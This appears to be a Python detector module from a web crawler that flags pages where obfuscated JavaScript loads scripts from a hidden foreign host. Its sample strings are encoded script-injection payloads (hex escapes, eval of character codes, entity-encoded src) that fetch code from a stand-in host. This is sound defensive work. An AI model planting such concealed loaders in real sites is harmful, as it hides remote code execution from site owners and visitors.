"""A script that hides in code the foreign address it loads from."""

import html
import re
from collections.abc import Iterator
from itertools import chain

from govcrawl.detectors.base import Context, Detector, Example
from govcrawl.detectors.dark_links.evidence import defanged
from govcrawl.detectors.dark_links.targets import foreign, sources
from govcrawl.findings import mask
from govcrawl.findings.model import Category, Confidence, Finding, Severity
from govcrawl.kit.urls import host_of, registrable
from govcrawl.page.model import Page

# An address with neither scheme nor host.
_PATH = re.compile(r"[\w./?=&%-]*").fullmatch


class ScriptLoader(Detector):
    """Counters write script elements too, but their address can be read in the source. Whoever encodes the host has something to hide."""

    id = "dark-links/script-loader"
    title = "Encoded script loads code from another site"
    category = Category.DARK_LINK
    severity, confidence = Severity.CRITICAL, Confidence.HIGH
    indicators = ("V1",)
    flagged = (
        Example(
            r"<script>window['\x64\x6f\x63\x75\x6d\x65\x6e\x74']['\x77\x72\x69\x74\x65']('\x3c\x73\x63\x72\x69\x70\x74 \x73\x72\x63\x3d"
            r"\x22\x68\x74\x74\x70\x3a\x2f\x2f\x62\x61\x64\x2e\x74\x65\x73\x74\x2e\x63\x6f\x6d\x2f\x61\x2e\x6a\x73\x22\x3e\x3c\x2f\x73\x63\x72\x69\x70\x74\x3e')</script>",
            "all in hexadecimal escapes",
        ),
        Example(
            '<script>t="60,83,67,82,73,80,84,32,115,114,99,61,34,104,116,116,112,58,47,47,98,97,100,46,116,101,115,116,46,99,111,109,47,97,46,106,115,34,62,60,47,115,99,114,105,112,116,62";'
            't=eval("String.fromCharCode("+t+")");document.write(t);</script>',
            "character codes in a variable",
        ),
        Example('<script src="&#104;&#116;&#116;&#112;&#58;&#47;&#47;&#98;&#97;&#100;&#46;&#116;&#101;&#115;&#116;&#46;&#99;&#111;&#109;/yb.js"></script>', "the attribute in numbers"),
    )  # fmt: skip
    clean = (
        Example("<script>document.write(unescape(\"%3Cscript src='http://s9.stat.test/z.php'%3E%3C/script%3E\"))</script>", "a counter: the host is readable"),
        Example(r"<script>document.write('\x3cscript src=\x22/js/menu.js\x22\x3e\x3c/script\x3e')</script>", "the site's own script"),
    )  # fmt: skip

    def inspect(self, page: Page, context: Context) -> Iterator[Finding]:  # noqa: ARG002 - the shape of a judgement
        seen: set[str] = set()
        for url, live, place in _concealed(page):
            domain = registrable(host_of(url))
            if domain not in seen:
                seen.add(domain)
                yield self.finding(
                    page.url,
                    f"loader\n{domain}",
                    defanged(url),
                    reason=f"decoded from a script{'' if live else ' inside a comment'}; the address stands nowhere in the source",
                    target=url,
                    locator=place,
                    severity=None if live else Severity.MEDIUM,
                    extra={"technique": mask.text("script-loader"), "live": live},
                )


def _concealed(page: Page) -> Iterator[tuple[str, bool, str]]:
    """Foreign addresses that no reader of the source can see, whether their script runs, and where it stands."""
    for script, does in page.scene.scripts:
        if does.encoded:
            loaded = [*sources("".join((*does.writes, *does.inserts))), *does.sources]
            for address in loaded:
                url = foreign(page, address)
                if url and host_of(url) not in script.code:
                    yield url, script.live, page.scene.place_of(script)
    yield from _in_numbers(page)


def _in_numbers(page: Page) -> Iterator[tuple[str, bool, str]]:
    at_home = page.base is page.url
    for node in chain.from_iterable(map(page.tree.tags, page.scene.by_numbers)):
        written = node.attrs.get("src")
        source = html.unescape(written) if written else ""
        if not written or (at_home and "//" not in source and _PATH(source)):
            continue
        url = foreign(page, source)
        if url and not host_of(url).startswith("xn--") and host_of(url) not in page.html and written not in page.html:
            yield url, True, f"{node.tag}[src]"
